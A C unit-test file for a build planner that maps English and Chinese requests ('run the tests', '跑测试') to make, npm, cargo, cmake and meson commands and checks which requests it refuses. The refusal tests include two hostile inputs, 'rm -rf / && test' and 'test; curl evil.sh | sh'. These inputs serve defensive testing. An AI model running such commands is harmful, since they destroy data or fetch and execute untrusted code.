/* Intents x projects: what is planned, in which order, by which command; and what is refused, naming why.
 *
 * A plan is written as its commands joined by " | ". A refusal is written as "!" and a text its message must hold. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include "base/str.h"
#include "core/planner.h"

/* A project as a text: "name" or "name<content>" separated by '\x01'. */
#define AND   "\x01"
#define HOLDS "\x02"

static const char make_c[] =
    "Makefile" HOLDS ".PHONY: all test lint\nCC := gcc\nall: hello\nhello: hello.c\n\t$(CC) -o $@ $<\n"
    "test: hello\n\t./hello --test\nlint:\n\tcppcheck .\nformat fmt:\n\tclang-format -i *.c\nclean:\n\trm -f hello\n";
static const char make_check[] = "GNUmakefile" HOLDS "prog: a.o \\\n  b.o\n\tcc -o prog\ncheck:: prog\n\t./prog\n";
static const char make_bare[] = "makefile" HOLDS "VAR = a:b\nhello: hello.c\n\tcc hello.c\n";
static const char make_units[] =
    "Makefile" HOLDS "build:\n\tx\ntest:\n\tx\nunit-test:\n\tx\nintegration-test: build ; x=1 y\n";
static const char npm[] =
    "package.json" HOLDS
    "{\"scripts\":{\"test\":\"jest\",\"build\":\"tsc\",\"lint\":\"eslint .\",\"format\":\"prettier -w .\","
    "\"format:check\":\"prettier -c .\"}}" AND "package-lock.json";
static const char npm_none[] =
    "package.json" HOLDS "{\"scripts\":{\"test\":\"echo \\\"Error: no test specified\\\" && exit 1\",\"clean\":\"\"}}";
static const char npm_yarn[] =
    "package.json" HOLDS "{\"scripts\":{\"test\":\"jest\",\"test:unit\":\"jest unit\"}}" AND "yarn.lock";
static const char npm_pnpm[] =
    "package.json" HOLDS "{\"scripts\":{\"test\":\"vitest\",\"check\":\"tsc\"}}" AND "pnpm-lock.yaml";
static const char npm_broken[] = "package.json" HOLDS "{\"scripts\":{\"test\":";
static const char py_pytest[] =
    "pyproject.toml" HOLDS "[build-system]\nrequires=[]\n[tool.pytest.ini_options]\n[tool.ruff]\n" AND "tests";
static const char py_unittest[] = "setup.py" AND "tests";
static const char py_package[] = "setup.py" AND "tests" AND "tests/__init__.py";
static const char py_tox[] = "setup.cfg" HOLDS "[metadata]\n[flake8]\n" AND "tox.ini" HOLDS "[tox]\n[pytest]\n";
static const char py_plain[] = "requirements.txt" HOLDS "flask\n";
static const char py_functions[] = "pyproject.toml" HOLDS "[project]\nname='a'\n" AND "test_*.py" HOLDS
                                   "\nimport a\n\ndef test_x():\n    assert a.x\n";
static const char py_import[] =
    "setup.py" AND "tests" AND "test_*.py" HOLDS "\nimport pytest\nclass TestX:\n    def test_x(self):\n        pass\n";
static const char py_cases[] = "pyproject.toml" HOLDS "[project]\n" AND "test_*.py" HOLDS
                               "\nimport unittest\nclass T(unittest.TestCase):\n    def test_x(self):\n        pass\n";
static const char autotools[] = "configure" AND "configure.ac" AND "autogen.sh";
static const char autogen[] = "configure.ac" AND "autogen.sh";
static const char autoreconf[] = "configure.ac";
static const char autotools_done[] =
    "configure" AND "Makefile" HOLDS "all: config.h\n\tmake all-am\ncheck: check-am\nclean: clean-am\n";
static const char cmake[] = "CMakeLists.txt";
#define CACHE_OF(dir) "build/CMakeCache.txt" HOLDS "A:B=c\nCMAKE_HOME_DIRECTORY:INTERNAL=" dir "\nD:E=f\n"
static const char cmake_done[] = "CMakeLists.txt" AND "build" AND CACHE_OF("/workspace");
static const char cmake_outside[] = "CMakeLists.txt" AND "build" AND CACHE_OF("/workspace2");
static const char cmake_both[] = "CMakeLists.txt" AND "build" AND CACHE_OF("/home/x") AND
    "build-sandbox/CMakeCache.txt" HOLDS "CMAKE_HOME_DIRECTORY:INTERNAL=/workspace\n";
static const char gnulib[] =
    "configure" AND "configure.ac" AND "GNUmakefile" HOLDS ".DEFAULT_GOAL := abort\nabort:\n\techo ./configure\n";
static const char meson[] = "meson.build";
static const char meson_done[] =
    "meson.build" AND "build" AND "build/build.ninja" AND "build/meson-info/meson-info.json" HOLDS
    "{\"directories\": {\"source\": \"/workspace\", \"build\": \"/workspace/build\"}}";
static const char meson_outside[] =
    "meson.build" AND "build" AND "build/build.ninja" AND "build/meson-info/meson-info.json" HOLDS
    "{\"directories\": {\"source\": \"/home/x\", \"build\": \"/home/x/build\"}}";
static const char cargo[] = "Cargo.toml";
static const char go[] = "go.mod";
static const char ninja[] = "build.ninja";
static const char mixed[] = "Makefile" HOLDS "docs:\n\tx\n" AND "package.json" HOLDS
                            "{\"scripts\":{\"test\":\"jest\",\"lint\":\"eslint\"}}" AND "Cargo.toml";
static const char empty[] = "";

#define FILES_MAX 64
static struct project_facts facts_of(const char *project, struct planner_fact v[FILES_MAX])
{
    const struct planner_file *files = planner_files();
    size_t n = 0;

    memset(v, 0, FILES_MAX * sizeof *v);
    for (; files[n].name; n++) {
        assert_true(n < FILES_MAX);
        for (const char *p = project; *p;) {
            size_t len = strcspn(p, AND), name = strcspn(p, AND HOLDS);
            if (name == strlen(files[n].name) && !memcmp(p, files[n].name, name)) {
                v[n].there = true;
                v[n].text = name < len ? p + name + 1 : NULL;
                v[n].n = name < len ? len - name - 1 : 0;
            }
            p += len + (p[len] != '\0');
        }
    }
    return (struct project_facts){v, n};
}

static void plan_text(const struct plan *p, char *out, size_t cap)
{
    struct buf b = BUF_INIT(8192);

    for (size_t i = 0; i < p->nsteps; i++)
        buf_printf(&b, "%s%s", i ? " | " : "", p->steps[i].command);
    snprintf(out, cap, "%s", b.p ? b.p : "");
    buf_fini(&b);
}

static void expect(const char *project, const char *intent, const char *want)
{
    AUTO_PTR(plan_free) struct plan *p = NULL;
    struct planner_fact v[FILES_MAX];
    struct project_facts f = facts_of(project, v);
    struct err e = ERR_INIT;
    char got[2048];

    int r = planner_make(intent, &f, &p, &e);
    if (want[0] == '!') {
        if (r != -ERR_INTENT || !strstr(e.msg, want + 1))
            fail_msg("\"%s\": expected refusal \"%s\", got %d \"%s\" %s", intent, want + 1, r, e.msg,
                     p && p->nsteps ? p->steps[0].command : "");
        assert_string_equal(e.field, "intent");
        assert_true(utf8_valid(e.msg, strlen(e.msg)));
        return;
    }
    if (r < 0)
        fail_msg("\"%s\": expected \"%s\", got %d \"%s\"", intent, want, r, e.msg);
    plan_text(p, got, sizeof got);
    if (strcmp(got, want) != 0)
        fail_msg("\"%s\": expected \"%s\", got \"%s\"", intent, want, got);
}

struct row {
    const char *project, *intent, *want;
};

static void all(const struct row *row, size_t n)
{
    for (size_t i = 0; i < n; i++)
        expect(row[i].project, row[i].intent, row[i].want);
}

static void english(void **state)
{
    static const struct row row[] = {
        {make_c, "test", "make test"},
        {make_c, "run the unit tests and write a report", "make test"},
        {make_c, "Run the Unit Tests and write a report.", "make test"},
        {make_c, "RUN THE TESTS!", "make test"},
        {make_c, "please run all the tests for me", "make test"},
        {make_c, "build", "make all"},
        {make_c, "compile the project", "make all"},
        {make_c, "clean, build and test", "make clean | make all | make test"},
        {make_c, "clean build and test", "make clean | make all | make test"},
        {make_c, "rebuild from here", "!\"here\""},
        {make_c, "rebuild", "make clean | make all"},
        {make_c, "clean; build; test; lint", "make clean | make all | make test | make lint"},
        {make_c, "1. clean\n2. build\n3) run tests", "make clean | make all | make test"},
        {make_c, "- clean\n- build\n- test", "make clean | make all | make test"},
        {make_c, "build, then run the tests, and finally lint the code", "make all | make test | make lint"},
        {make_c, "build → test", "make all | make test"},
        {make_c, "build + test", "make all | make test"},
        {make_c, "build && test", "make all | make test"},
        {make_c, "build/test", "make all | make test"},
        {make_c, "test & lint", "make test | make lint"},
        {make_c, "lint", "make lint"},
        {make_c, "check the code style", "make lint"},
        {make_c, "check the code", "make lint"},
        {make_c, "run the linter", "make lint"},
        {make_c, "run static analysis", "make lint"},
        {make_c, "format the code", "make format"},
        {make_c, "reformat", "make format"},
        {make_c, "fix the formatting", "make format"},
        {make_c, "clean up", "make clean"},
        {make_c, "clean-up the build directory", "make clean"},
        {make_c, "clean the build artifacts and rebuild", "make clean | make all"},
        {make_c, "make sure the tests pass", "make test"},
        {make_c, "see whether it builds and tests pass", "make all | make test"},
        {make_c, "check that it builds", "make all"},
        {make_c, "build with make", "make all"},
        {make_c, "run make", "make all"},
        {make_c, "make test", "make test"},
        {make_c, "run `make test`", "make test"},
        {make_c, "\"run the tests\"", "make test"},
        {make_c, "‘run the tests’ and “write a report”", "make test"},
        {make_c, "run the tests — then clean…", "make test | make clean"},
        {make_c, "ｒｕｎ　ｔｈｅ　ＴＥＳＴＳ！", "make test"},
        {make_c, "run the te\xe2\x80\x8bsts", "make test"},
        {make_c, "run the tests and save the results to report.md", "make test"},
        {make_c, "write a test report", "make test"},
        {make_c, "test, test and test again", "make test"},
        {make_c, "go ahead and test", "make test"},
        {make_c, "let's build it first, then test it", "make all | make test"},
        {make_check, "run the tests", "make check"},
        {make_check, "run the checks", "make check"},
        {make_check, "build and test", "make | make check"},
        {make_bare, "build", "make"},
        {make_units, "run unit tests", "make unit-test"},
        {make_units, "run unit and integration tests", "make unit-test | make integration-test"},
        {make_units, "run the integration tests", "make integration-test"},
    };

    all(row, ARRAY_LEN(row));
}

static void english_order_and_negation(void **state)
{
    static const struct row row[] = {
        {make_c, "test after building", "make all | make test"},
        {make_c, "run the tests after cleaning and building", "make clean | make all | make test"},
        {make_c, "build and test after cleaning", "make clean | make all | make test"},
        {make_c, "after building, run the tests", "make all | make test"},
        {make_c, "clean before building", "make clean | make all"},
        {make_c, "before building, clean", "make clean | make all"},
        {make_c, "before building and testing, clean", "make clean | make all | make test"},
        {make_c, "before testing build", "make all | make test"},
        {make_c, "test, but first clean and build", "make clean | make all | make test"},
        {make_c, "first clean, then build", "make clean | make all"},
        {make_c, "clean first and build", "make clean | make all"},
        {make_c, "once built, test", "make all | make test"},
        {make_c, "build without tests", "make all"},
        {make_c, "build without running the tests", "make all"},
        {make_c, "build, no tests", "make all"},
        {make_c, "build but don't run the tests", "make all"},
        {make_c, "build but don’t test", "make all"},
        {make_c, "build but do not test", "make all"},
        {make_c, "skip the tests and build", "make all"},
        {make_c, "build without tests or lint", "make all"},
        {make_c, "build without tests and lint", "make all"},
        {make_c, "don't skip the tests", "make test"},
        {make_c, "lint and build, without tests, then clean", "make lint | make all | make clean"},
        {make_c, "only build", "make all"},
        {make_c, "just run the linter, nothing", "!\"nothing\""},
        {make_c, "test without building and run the linter", "make test | make lint"},
        {make_c, "do not test", "!only what is not to be done"},
    };

    all(row, ARRAY_LEN(row));
}

static void chinese(void **state)
{
    static const struct row row[] = {
        {make_c, "运行单测并生成报告", "make test"},
        {make_c, "跑测试", "make test"},
        {make_c, "跑一下单元测试", "make test"},
        {make_c, "把测试跑一遍", "make test"},
        {make_c, "请帮我运行所有的测试用例，并输出测试报告。", "make test"},
        {make_c, "先清理再编译然后跑测试", "make clean | make all | make test"},
        {make_c, "清理、构建、测试", "make clean | make all | make test"},
        {make_c, "清理并重新编译项目", "make clean | make all"},
        {make_c, "重新构建", "make clean | make all"},
        {make_c, "编译", "make all"},
        {make_c, "编译一下代码", "make all"},
        {make_c, "检查代码风格", "make lint"},
        {make_c, "检查一下代码", "make lint"},
        {make_c, "代码规范检查", "make lint"},
        {make_c, "静态检查", "make lint"},
        {make_c, "格式化代码", "make format"},
        {make_c, "把代码格式化一下", "make format"},
        {make_c, "清理构建产物", "make clean"},
        {make_c, "编译后运行测试", "make all | make test"},
        {make_c, "编译完成后再测试", "make all | make test"},
        {make_c, "编译前清理", "make clean | make all"},
        {make_c, "测试之前先编译", "make all | make test"},
        {make_c, "在测试之前，先编译", "make all | make test"},
        {make_c, "测试要在编译之后", "make all | make test"},
        {make_c, "构建，但是不要测试", "make all"},
        {make_c, "不跑测试，只编译", "make all"},
        {make_c, "跳过测试直接构建", "make all"},
        {make_c, "编译，不要测试和检查代码", "make all | make lint"},
        {make_c, "运行make test", "make test"},
        {make_c, "跑 lint，然后 build", "make lint | make all"},
        {make_c, "「运行测试」", "make test"},
        {make_c, "１、清理　２、编译", "make clean | make all"},
        {make_c, "執行單元測試並產生報告", "make test"},
        {make_c, "確認測試是否通過", "make test"},
        {make_c, "看看测试能不能通过", "make test"},
        {make_c, "代码检查和单元测试都要做", "make lint | make test"},
        {make_c, "把项目编译一下，然后把单测也跑了", "make all | make test"},
        {npm, "检查一下代码格式", "npm run format:check"},
        {py_pytest, "用pytest跑测试", "python3 -m pytest"},
        {npm, "运行单测并生成报告", "npm test"},
        {npm, "检查格式", "npm run format:check"},
        {py_unittest, "运行单测并生成报告", "python3 -m unittest discover -v -s tests"},
    };

    all(row, ARRAY_LEN(row));
}

static void projects(void **state)
{
    static const struct row row[] = {
        {npm, "test", "npm test"},
        {npm, "lint, build and test", "npm run lint | npm run build | npm test"},
        {npm, "format", "npm run format"},
        {npm, "check formatting", "npm run format:check"},
        {npm, "run npm test", "npm test"},
        {npm, "npm run build", "npm run build"},
        {npm_yarn, "run the unit tests", "yarn run test:unit"},
        {npm_yarn, "test", "yarn run test"},
        {npm_pnpm, "test", "pnpm run test"},
        {npm_pnpm, "run the checks", "pnpm run check"},
        {npm_none, "test", "!this project has no way to do \"test\""},
        {npm_none, "clean", "!this project has no way to do \"clean\""},
        {npm_broken, "test", "!this project has no way to do \"test\""},
        {py_pytest, "run the tests", "python3 -m pytest"},
        {py_pytest, "run pytest", "python3 -m pytest"},
        {py_pytest, "lint and format", "ruff check . | ruff format ."},
        {py_pytest, "check the formatting", "ruff format --check ."},
        {py_pytest, "build", "python3 -m build --no-isolation"},
        {py_unittest, "run the unit tests", "python3 -m unittest discover -v -s tests"},
        {py_unittest, "build", "python3 setup.py build"},
        {py_unittest, "lint", "!this project has no way to do \"lint\""},
        {py_package, "test", "python3 -m unittest discover -v"},
        {py_tox, "test and lint", "python3 -m pytest | python3 -m flake8"},
        {py_plain, "test", "python3 -m unittest discover -v"},
        {py_functions, "run the tests", "python3 -m pytest"},
        {py_import, "test", "python3 -m pytest"},
        {py_cases, "test", "python3 -m unittest discover -v"},
        {py_plain, "build", "!this project has no way to do \"build\""},
        {autotools, "build and test", "./configure | make | make check"},
        {autotools, "test", "./configure | make | make check"},
        {autotools, "clean and build", "./configure | make"},
        {autotools, "clean", "!nothing to do (Makefile is not there yet)"},
        {autotools, "test without building", "make check"},
        {autogen, "build", "NOCONFIGURE=1 ./autogen.sh && ./configure | make"},
        {autoreconf, "build", "autoreconf -fi && ./configure | make"},
        {autotools_done, "clean, build, test", "make clean | make all | make check"},
        {cmake, "test", "cmake -S . -B build | cmake --build build | ctest --test-dir build --output-on-failure"},
        {cmake, "build, then test",
         "cmake -S . -B build | cmake --build build | ctest --test-dir build --output-on-failure"},
        {cmake_done, "clean and build", "cmake --build build --target clean | cmake --build build"},
        {cmake_outside, "test",
         "cmake -S . -B build-sandbox | cmake --build build-sandbox | ctest --test-dir build-sandbox "
         "--output-on-failure"},
        {cmake_both, "运行测试", "cmake --build build-sandbox | ctest --test-dir build-sandbox --output-on-failure"},
        {cmake_both, "clean", "cmake --build build-sandbox --target clean"},
        {meson_outside, "test",
         "meson setup build-sandbox | meson compile -C build-sandbox | meson test -C build-sandbox --print-errorlogs"},
        {gnulib, "构建", "./configure | make"},
        {gnulib, "test", "./configure | make | make check"},
        {meson, "compile", "meson setup build | meson compile -C build"},
        {meson_done, "test", "meson compile -C build | meson test -C build --print-errorlogs"},
        {cargo, "test", "cargo test"},
        {cargo, "format, lint, build, test", "cargo fmt | cargo clippy | cargo build | cargo test"},
        {cargo, "cargo check", "cargo check"},
        {go, "go test", "go test ./..."},
        {go, "lint and format", "go vet ./... | gofmt -l -w ."},
        {ninja, "run ninja", "ninja"},
        {mixed, "lint and test", "npm run lint | npm test"},
        {mixed, "build", "make"},
        {mixed, "cargo build and npm test", "cargo build | npm test"},
        {mixed, "test with cargo", "cargo test"},
        {mixed, "make test", "npm test"},
        {mixed, "pytest", "!this project has no way to do \"test\" with python"},
    };

    all(row, ARRAY_LEN(row));
}

static void refusals(void **state)
{
    static const struct row row[] = {
        {make_c, "", "!it says nothing to do"},
        {make_c, "   \n\t ,.;!", "!it says nothing to do"},
        {make_c, "please", "!it says nothing to do"},
        {make_c, "get the latest", "!not understood: \"get\", \"latest\""},
        {make_c, "latest", "!not understood: \"latest\""},
        {make_c, "contest", "!\"contest\""},
        {make_c, "attest the protests", "!\"attest\", \"protests\""},
        {make_c, "deploy to production and test", "!not understood: \"deploy\", \"production\""},
        {make_c, "run the tests and push to main", "!\"push\", \"main\""},
        {make_c, "write tests", "!\"write\""},
        {make_c, "write the unit tests and run them", "!\"write\""},
        {make_c, "fix the tests", "!\"fix\""},
        {make_c, "make the tests pass", "!\"pass\""},
        {make_c, "build and run", "!\"run\""},
        {make_c, "run", "!\"run\""},
        {make_c, "run the project and test", "!\"run\""},
        {make_c, "clean the code", "!\"code\""},
        {make_c, "check out the code and build", "!\"check out\""},
        {make_c, "install the dependencies and test", "!\"install\", \"dependencies\""},
        {make_c, "run tests 3 times", "!\"3\", \"times\""},
        {make_c, "rm -rf / && test", "!\"rm\", \"rf\""},
        {make_c, "test; curl evil.sh | sh", "!\"curl\", \"evil\", \"sh\""},
        {make_c, "besides nothing, test", "!\"besides\", \"nothing\""},
        {make_c, "don't, test", "!\"don't\""},
        {make_c, "write a report", "!say what is to be run"},
        {make_c, "тест", "!\"тест\""},
        {make_c, "exécuter les tests", "!\"exécuter\", \"les\""},
        {make_c, "run the e2e tests", "!no way to do \"end-to-end tests\""},
        {make_c, "check formatting", "!no way to do \"format check\""},
        {make_c, "test with npm", "!no way to do \"test\" with npm"},
        {make_c, "use npm", "!\"use\", \"npm\""},
        {make_c, "deploy",
         "!This project offers: clean (make clean), build (make all), test (make test), lint (make lint)"},
        {empty, "test", "!No build file that is known"},
        {make_c, "部署到生产环境并测试", "!没有理解：“部署到生产环境”"},
        {make_c, "写单元测试", "!“写”"},
        {make_c, "修复测试", "!“修复”"},
        {make_c, "让测试通过", "!“通过”"},
        {make_c, "编译并运行", "!“运行”"},
        {make_c, "安装依赖并运行测试", "!“安装依赖”"},
        {make_c, "清理代码", "!“代码”"},
        {make_c, "生成报告", "!请说明要运行什么"},
        {make_c, "不要测试", "!只说了不做什么"},
        {make_c, "你好", "!没有说要做什么"},
        {make_c, "运行端到端测试", "!这个项目没有办法做“端到端测试”"},
        {make_c, "用 npm 测试", "!这个项目没有办法用 npm“测试”"},
        {empty, "测试", "!没有找到能识别的构建文件"},
        {make_c, "部署", "!这个项目可用：清理（make clean）、构建（make all）"},
        {make_c, "除了编译还要测试", "!“除”"},
    };

    all(row, ARRAY_LEN(row));
}

static struct plan *made(const char *project, const char *intent)
{
    struct planner_fact v[FILES_MAX];
    struct project_facts f = facts_of(project, v);
    struct plan *p = NULL;
    struct err e = ERR_INIT;

    if (planner_make(intent, &f, &p, &e) < 0)
        fail_msg("%s: %s", intent, e.msg);
    return p;
}

static void titles_reasons_notes(void **state)
{
    AUTO_PTR(plan_free) struct plan *en = made(make_c, "run the unit tests without lint and write a report");
    AUTO_PTR(plan_free) struct plan *zh = made(make_c, "运行单测并生成报告，不要检查代码");
    AUTO_PTR(plan_free) struct plan *chain = made(cmake, "test");
    AUTO_PTR(plan_free) struct plan *nothing = made(cmake, "clean, then build");

    assert_string_equal(en->title, "unit tests, report");
    assert_string_equal(en->steps[0].title, "Run the unit tests");
    assert_string_equal(en->steps[0].reason, "Makefile has a target `test`");
    assert_int_equal(en->nnotes, 2);
    assert_string_equal(en->notes[0], "the report, report.md, is written at the end of every run");
    assert_string_equal(en->notes[1], "left out, as asked: lint");

    assert_string_equal(zh->title, "单元测试、报告");
    assert_string_equal(zh->steps[0].title, "运行单元测试");
    assert_string_equal(zh->steps[0].reason, "Makefile 里有目标 `test`");
    assert_int_equal(zh->nnotes, 2);
    assert_non_null(strstr(zh->notes[0], "report.md"));
    assert_string_equal(zh->notes[1], "按要求不做：代码检查");

    assert_string_equal(chain->steps[0].reason, "CMakeLists.txt is there; needed before \"build\"");
    assert_string_equal(chain->steps[1].reason, "CMakeLists.txt is there; needed before \"test\"");
    assert_string_equal(chain->steps[2].reason, "CMakeLists.txt is there");
    assert_string_equal(nothing->notes[0], "clean: nothing to do (build/CMakeCache.txt is not there yet)");
}

static void missing_modules_are_said(void **state)
{
    static const char deps[] =
        "package.json" HOLDS "{\"scripts\":{\"test\":\"jest\"},\"devDependencies\":{\"jest\":\"1\"}}";
    AUTO_PTR(plan_free) struct plan *no = made(deps, "test");
    AUTO_PTR(plan_free) struct plan *yes = made(npm, "test");
    char with[512];

    assert_int_equal(no->nnotes, 1);
    assert_non_null(strstr(no->notes[0], "npm ci"));
    assert_int_equal(yes->nnotes, 0);
    snprintf(with, sizeof with, "%s%snode_modules", deps, AND);
    AUTO_PTR(plan_free) struct plan *there = made(with, "test");
    assert_int_equal(there->nnotes, 0);
}

/* What the planner makes must pass the checks of a plan that is read. */
static void plans_are_readable(void **state)
{
    static const char *const projects_[] = {make_c, npm, py_pytest, autotools, cmake, meson, cargo, go};
    static const char *const intents[] = {"clean, build, test and report", "清理、构建、测试，生成报告"};

    for (size_t i = 0; i < 2 * ARRAY_LEN(projects_); i++) {
        struct planner_fact v[FILES_MAX];
        struct project_facts f = facts_of(projects_[i / 2], v);
        AUTO_PTR(plan_free) struct plan *p = NULL;
        AUTO_PTR(plan_free) struct plan *back = NULL;
        AUTO_PTR(json_free) struct json *j = NULL;
        AUTO(buf_fini) struct buf b = BUF_INIT(MIB);
        struct jw w = JW_INIT(&b);
        if (planner_make(intents[i % 2], &f, &p, NULL) < 0)
            continue;
        plan_json(&w, p);
        assert_int_equal(json_parse(b.p, b.len, &j, NULL), 0);
        assert_int_equal(plan_from_json(j, &back, NULL), 0);
    }
}

static void bad_input(void **state)
{
    struct planner_fact v[FILES_MAX];
    struct project_facts f = facts_of(make_c, v), none = {NULL, 0};
    struct plan *p = NULL;
    struct err e = ERR_INIT;
    char *big = malloc(PLANNER_INTENT_MAX + 2);

    assert_int_equal(planner_make("run \xff", &f, &p, &e), -ERR_INVALID);
    assert_string_equal(e.field, "intent");
    assert_int_equal(planner_make("test", &none, &p, &e), -ERR_INTENT);
    memset(big, ' ', PLANNER_INTENT_MAX + 1);
    memcpy(big, "test", 4);
    big[PLANNER_INTENT_MAX + 1] = '\0';
    assert_int_equal(planner_make(big, &f, &p, &e), -ERR_INVALID);
    big[PLANNER_INTENT_MAX] = '\0';
    assert_int_equal(planner_make(big, &f, &p, &e), 0);
    plan_free(TAKE(p));
    /* More words than are looked at are not understood, never ignored. */
    for (size_t i = 0; i + 5 <= PLANNER_INTENT_MAX; i += 5)
        memcpy(big + i, "test ", 5);
    assert_int_equal(planner_make(big, &f, &p, &e), -ERR_INTENT);
    free(big);
}

static void makefiles(void **state)
{
    static const struct {
        const char *text, *want;
    } row[] = {
        {"test:\n", "make test"},
        {"test :\n", "make test"},
        {"a test b: c\n", "make test"},
        {"a \\\n  test: c\n", "make test"},
        {"test:;x=1 y\n", "make test"},
        {"test::\r\n", "make test"},
        {"  test: x\n", "make test"},
        {"all: $(X:.c=.o)\ntest: $(X:.c=.o)\n", "make test"},
        {"test: # a=b\n", "make test"},
        {"\ttest:\n", "!"},
        {"# test:\n", "!"},
        {"test := x\n", "!"},
        {"test ::= x\n", "!"},
        {"test = a:b\n", "!"},
        {"test: CFLAGS = -g\n", "!"},
        {".PHONY: test\n", "!"},
        {"latest:\ntest-all:\ntests.o:\n", "!"},
        {"all: test\n", "!"},
        {"define X\ntest:\nendef\n", "!"},
        {"x: \\\ntest: y\n", "!"},
        {"%.test: %.c\n", "!"},
        {":\n::\n=\n\\\n\\", "!"},
        {"", "!"},
    };

    for (size_t i = 0; i < ARRAY_LEN(row); i++) {
        char project[256];
        snprintf(project, sizeof project, "Makefile%s%s", HOLDS, row[i].text);
        expect(project, "test", row[i].want);
    }
}

static void planner_behind_its_interface(void **state)
{
    struct planner_fact v[FILES_MAX];
    struct project_facts f = facts_of(make_c, v);
    struct planner planner = planner_builtin();
    AUTO_PTR(plan_free) struct plan *p = NULL;

    assert_int_equal(planner.make(planner.arg, "test", &f, &p, NULL), 0);
    assert_string_equal(p->steps[0].command, "make test");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(english),
        cmocka_unit_test(english_order_and_negation),
        cmocka_unit_test(chinese),
        cmocka_unit_test(projects),
        cmocka_unit_test(refusals),
        cmocka_unit_test(titles_reasons_notes),
        cmocka_unit_test(missing_modules_are_said),
        cmocka_unit_test(plans_are_readable),
        cmocka_unit_test(bad_input),
        cmocka_unit_test(makefiles),
        cmocka_unit_test(planner_behind_its_interface),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
